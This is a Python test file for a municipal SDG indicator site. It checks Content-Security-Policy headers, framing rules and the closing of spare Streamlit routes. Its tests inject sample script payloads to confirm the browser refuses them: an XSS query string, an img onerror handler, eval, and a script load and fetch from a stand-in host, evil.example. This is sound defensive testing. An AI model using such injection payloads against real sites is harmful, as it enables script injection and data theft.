"""What a browser may run and load: all that our pages need, and nothing that slips in.

That no page needs what is refused is seen where each is opened: `test_accessibility.py`.
"""

import re

import pytest
import requests
from playwright.sync_api import expect

from sdgwijzer.errors import UsageError
from sdgwijzer.serving import guard
from sdgwijzer.settings import given
from sdgwijzer.texts import frame_of_pages
from tests.ask import asked
from tests.conftest import sampled, swept
from tests.pages.conftest import WATCH, patient
from tests.pages.test_browser import PATIENCE, VIEWS, words
from tests.pages.test_embedded import Host, elsewhere  # noqa: F401 - a fixture

CHART = "/indicator?gemeente=Harelbeke&indicator=armoederisico&groot=ja"
ONE = {"gemeente": "Harelbeke", "indicator": "armoederisico"}


def parts(answer):
    """Directive → its sources."""
    found = answer.headers["content-security-policy"].split("; ")
    return {each.partition(" ")[0]: each.partition(" ")[2].split() for each in found}


def test_scripts_in_a_page_are_those_that_its_policy_names(dataset):
    answer = asked(dataset, "indicator", ONE)
    allowed = parts(answer)["script-src"]
    scripts = re.findall(r"<script[^>]*>([^<]+)</script>", answer.text)
    hashes = [each for each in allowed if each.startswith("'sha256-")]
    assert len(hashes) == len(scripts) == 2
    assert set(allowed) - set(hashes) == {"'self'", "blob:", "'wasm-unsafe-eval'"}


def test_policy_does_not_depend_on_what_a_link_says(dataset):
    evil = asked(dataset, "zoek", {"zoek": "<script>alert(1)</script>"})
    assert parts(evil)["script-src"] == parts(asked(dataset, "zoek"))["script-src"]


@pytest.mark.parametrize("link", [{}, {"embed": "true"}])
def test_other_sites_show_a_page_in_a_frame_only_where_the_host_lets_them(dataset, link):
    def ancestors(**settings):
        return parts(asked(dataset, "indicator", ONE | link, **settings))["frame-ancestors"]

    assert ancestors() == ["'self'"]
    both = "https://www.stad.example, https://*.streek.example:8443"
    assert ancestors(frames=both) == ["'self'", *both.split(", ")]
    assert ancestors(frames="*") == ["'self'", "*"]


@pytest.mark.parametrize("frames", ["stad.example", "https://stad.example/pad", "'none'", "a; b"])
def test_site_that_cannot_be_one_is_refused(frames):
    with pytest.raises(UsageError, match="SDGWIJZER_FRAMES: expected sites like"):
        given(frames=frames)


def test_page_has_the_policy_that_was_agreed(dataset):
    found = parts(asked(dataset, "indicator", ONE))
    del found["script-src"], found["frame-ancestors"]
    assert {name: " ".join(sources) for name, sources in found.items()} == {
        "default-src": "'none'",
        "style-src": "'self' 'unsafe-inline'",
        "img-src": "'self' data: blob:",
        "font-src": "'self' data:",
        "connect-src": "'self'",
        "manifest-src": "'self'",
        "base-uri": "'none'",
        "form-action": "'self'",
    }


OTHERS = [
    *("", "overzicht", "healthz", "readyz", "robots.txt", "nieuw.atom", "sitemap.xml"),
    *("paginas.js", "pictogrammen.css", "kaart/grenzen.json", "beeld/strip.svg", "nergens.txt"),
    *("api/v1/", "api/v1/nergens", "download/alles.pdf", "insluiten/tegel", "nergens"),
]


@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_every_answer_has_the_headers(dataset, method):
    for path in OTHERS:
        found = asked(dataset, path, ONE | {"doel": "1"}, method=method).headers
        for name, text in guard.HEADERS.items():
            assert found[name.lower()] == text, (path, name)
        assert found["content-security-policy"].startswith("default-src 'none'; "), path


SHUT = [
    *("_stcore/upload_file/x/y", "_stcore/metrics", "_stcore/script-health-check", "_stcore/"),
    *("_stcore/agent/mcp", "_stcore//metrics", "media/x.png", "component/x/index.html"),
    *("app/static/x", "auth/login", "oauth2callback", "_stcore/health/x"),
]


@pytest.mark.parametrize("method", ["GET", "PUT", "POST", "DELETE", "OPTIONS"])
@pytest.mark.parametrize("base", ["", "sdg"])
def test_what_streamlit_has_more_is_shut(dataset, method, base):
    for path in SHUT:
        answer = asked(dataset, path, base=base, method=method)
        assert (path, answer.status) == (path, 404)
        assert answer.text == frame_of_pages.NOT_FOUND


@pytest.mark.browser
def test_what_streamlit_has_more_is_shut_by_the_server(app_url):
    for path in SHUT:
        for method in ("GET", "PUT", "POST", "DELETE"):
            answer = requests.request(method, f"{app_url}/{path}", timeout=PATIENCE / 1000)
            assert (path, method, answer.status_code) == (path, method, 404)
            assert answer.headers["x-content-type-options"] == "nosniff"


def test_page_of_one_sentence_runs_nothing(dataset):
    assert parts(asked(dataset, "nergens.txt"))["default-src"] == ["'none'"]


@pytest.fixture
def watched(browser, app_url):
    """A tab that keeps what the policy refused."""
    context = browser.new_context(
        base_url=app_url, viewport={"width": 1280, "height": 900}, accept_downloads=True
    )
    context.add_init_script(WATCH)
    yield patient(context.new_page())
    context.close()


def refused(page):
    return page.evaluate("window.refused")


@swept
@pytest.mark.browser
def test_map_and_chart_do_all_that_they_can(watched):
    watched.goto(CHART)
    words(watched)
    watched.locator(".js-plotly-plot .nsewdrag").first.hover()
    with watched.expect_download(timeout=PATIENCE) as download:
        watched.locator(".modebar-btn").first.click()
    assert download.value.path().stat().st_size > 5000
    assert refused(watched) == []
    watched.goto("/")
    expect(watched.locator("svg[data-drawn='285']")).to_be_visible(timeout=PATIENCE)
    watched.locator("svg path[data-code='34013']").click()
    expect(watched.get_by_role("heading", level=1)).to_have_text(
        re.compile("Harelbeke"), timeout=PATIENCE
    )
    assert refused(watched) == []


ATTEMPTS = (
    "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
    "document.body.append(s)",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    "document.body.append(s)",
    "setTimeout(() => { try { eval('window.ran = 1') } catch {} }, 50)",
    "fetch('https://evil.example/').catch(() => {})",
)


@pytest.mark.browser
@pytest.mark.parametrize("attempt", sampled(ATTEMPTS, 3))
def test_what_slips_in_does_not_run(watched, attempt):
    watched.goto(VIEWS["nieuw"])
    watched.evaluate(f"() => {{ {attempt} }}")
    watched.wait_for_function("() => window.refused.length", timeout=PATIENCE)
    assert watched.evaluate("window.ran") is None


@pytest.mark.browser
@pytest.mark.parametrize("more", ["", "&embed=true"])
def test_page_is_not_shown_in_a_frame_elsewhere(browser, app_url, elsewhere, more):  # noqa: F811
    Host.page = f'<iframe src="{app_url}/nieuw?gemeente=Gent{more}"></iframe>'.encode()
    page = browser.new_context().new_page()
    page.goto(elsewhere)
    page.wait_for_timeout(1000)
    heading = page.locator("iframe").content_frame.get_by_role("heading", level=1)
    assert heading.count() == 0
    page.context.close()
